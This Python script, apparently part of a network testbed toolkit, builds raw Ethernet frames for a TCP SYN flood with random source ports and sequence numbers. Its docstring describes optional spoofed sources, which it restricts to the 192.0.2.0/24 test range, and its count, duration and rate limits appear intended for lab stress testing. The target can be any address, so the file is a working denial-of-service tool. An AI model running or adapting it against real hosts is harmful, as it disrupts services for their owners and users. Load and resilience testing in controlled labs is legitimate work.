#!/usr/bin/env python3
"""TCP SYN flood from raw frames: random source ports and sequence numbers, optionally spoofed sources.

--src-ip defaults to the interface's own address; `--src-ip random` draws each SYN's source from the
testbed subnet 192.0.2.0/24 (hosts .2-.254, never outside TEST-NET), like a spoofing flooder.
"""
from __future__ import annotations

import random
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
from tblib import bounds, packets  # noqa: E402


def syns(src_mac: bytes, dst_mac: bytes, src_ip: str, dst_ip: bytes, dport: int, rng: random.Random):
    fixed = None if src_ip == "random" else packets.ip_bytes(src_ip)
    ident = 0
    while True:
        source = fixed or bytes([192, 0, 2, rng.randrange(2, 255)])
        segment = packets.tcp_syn(source, dst_ip, rng.randrange(1024, 65536), dport, rng.getrandbits(32))
        ident += 1
        yield packets.ethernet(dst_mac, src_mac, packets.ETH_P_IP,
                               packets.ipv4(source, dst_ip, 6, segment, ident))


def main() -> None:
    p = bounds.parser(__doc__.splitlines()[0], count=10_000, duration=10.0)
    p.add_argument("--target", required=True)
    p.add_argument("--dport", type=int, default=80)
    p.add_argument("--src-ip", help="source address, or 'random' (default: own address)")
    p.add_argument("--seed", type=int, default=1)
    packets.add_raw_args(p)
    args = p.parse_args()
    iface, sock, dst_mac = packets.raw_setup(args, args.target)
    src_ip = args.src_ip or packets.iface_ipv4(iface)
    frames = syns(packets.iface_mac(iface), dst_mac, src_ip, packets.ip_bytes(args.target), args.dport,
                  random.Random(args.seed))
    result = packets.blast(sock, frames, args.count, bounds.Deadline(args.duration), args.rate)
    bounds.emit({"tool": "syn_flood", "target": args.target, "dport": args.dport, "srcIp": src_ip, **result})


if __name__ == "__main__":
    main()
